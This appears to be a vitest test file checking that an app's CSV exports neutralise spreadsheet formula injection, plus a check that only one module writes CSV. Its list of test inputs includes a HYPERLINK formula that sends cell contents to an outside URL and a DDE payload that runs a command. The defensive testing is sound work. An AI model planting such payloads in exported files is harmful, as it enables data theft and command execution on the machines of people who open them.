/** No cell of a CSV file that leaves the app is run by a spreadsheet that opens it. */
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import fc from 'fast-check';
import papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { csvTable } from '../../cli/sweep-report.ts';
import { exactCsv, harmlessCsv } from '../../contract/csv.ts';
import { tableCsv } from '../../src-renderer/plot/export/csv.ts';
import { tableToSharedCsv } from '../../workers/data/table-csv.ts';
import { tableOf } from '../workers/data/import-text.ts';

/** As a spreadsheet reads it: the value of the first cell, without its quotes. */
const firstCell = (csv: string): string => papa.parse<string[]>(csv, { delimiter: ',' }).data[0]?.[0] ?? '';

const attacks = [
  '=1+1',
  '=HYPERLINK("http://example.org/?"&A1,"open")',
  "=cmd|'/C calc'!A0",
  '+1+cmd',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1',
  '\r=1',
  '\n=1',
  '-',
  '＝1+1',
  '＠SUM(A1)',
  '=',
];

describe('a file that leaves the app', () => {
  it.each(attacks)('has %j as text', (cell) => {
    expect(firstCell(harmlessCsv([[cell, 'x']]))).toBe(`'${cell}`);
  });

  it.each(['-2', '+3.5', '-1e-9', '0', '-0.0'])('has %s, which is a number, as it is', (cell) => {
    expect(harmlessCsv([[cell]])).toBe(`${cell}\n`);
  });

  it.each([-2, 1e21, 0.1 + 0.2])('has the number %d with all its digits', (value) => {
    expect(Number(harmlessCsv([[value]]))).toBe(value);
  });

  it('begins no cell like a formula, whatever it is made of', () => {
    const cell = fc.oneof(
      fc.string({ unit: 'grapheme' }),
      fc.tuple(fc.constantFrom(...'=+-@\t\r\n'), fc.string()).map(([first, rest]) => first + rest),
    );
    fc.assert(
      fc.property(fc.array(cell, { minLength: 2, maxLength: 5 }), (cells) => {
        const read =
          papa.parse<string[]>(harmlessCsv([cells]), { delimiter: ',', newline: '\n' }).data[0] ?? [];
        expect(read).toHaveLength(cells.length);
        for (const text of read) {
          if (/^[=+\-@\t\r\n]/.test(text)) expect(Number.isFinite(Number(text))).toBe(true);
        }
      }),
    );
  });

  it('keeps text that stays within the app as it is', () => {
    expect(exactCsv([['=1+1', 'a,b', ' x']])).toBe('=1+1,"a,b"," x"\n');
  });
});

describe('every writer follows the rule', () => {
  const formula = '=1+1';

  it('figures of charts', () => {
    const columns = [{ name: formula, format: String }];
    const written = tableCsv({ columns, count: 1, rowAt: () => [formula], isLatestFirst: false });
    expect(written).toBe("'=1+1\r\n'=1+1\r\n");
  });

  it('tables', async () => {
    const table = await tableOf(`${formula},n\n@a,1\n@b,2\n`);
    expect(tableToSharedCsv(table)).toBe("'=1+1,n\n'@a,1\n'@b,2\n");
  });

  it('sweeps', () => {
    expect(csvTable([{ run: 1, changes: [], result: { ok: false, message: formula } }])).toContain("'=1+1");
  });

  it('is one: nothing else puts cells together', () => {
    const writers = ['cli', 'contract', 'src-main', 'src-renderer', 'workers'].flatMap((realm) =>
      readdirSync(realm, { recursive: true, encoding: 'utf8' })
        .map((path) => join(realm, path))
        .filter((path) => /\.(ts|svelte)$/.test(path))
        .filter((path) => readFileSync(path, 'utf8').includes(`replaceAll('"', '""')`)),
    );
    expect(writers).toEqual([join('contract', 'csv.ts')]);
  });
});
